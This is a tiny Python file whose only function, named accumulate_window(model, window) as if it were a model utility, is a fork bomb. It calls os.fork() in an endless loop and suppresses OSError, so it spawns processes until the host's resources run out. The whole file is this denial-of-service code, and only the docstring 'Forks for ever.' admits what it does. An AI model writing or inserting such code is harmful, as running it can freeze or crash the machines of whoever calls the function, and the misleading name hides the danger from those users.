"""Forks for ever."""

import contextlib
import os


def accumulate_window(model, window):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
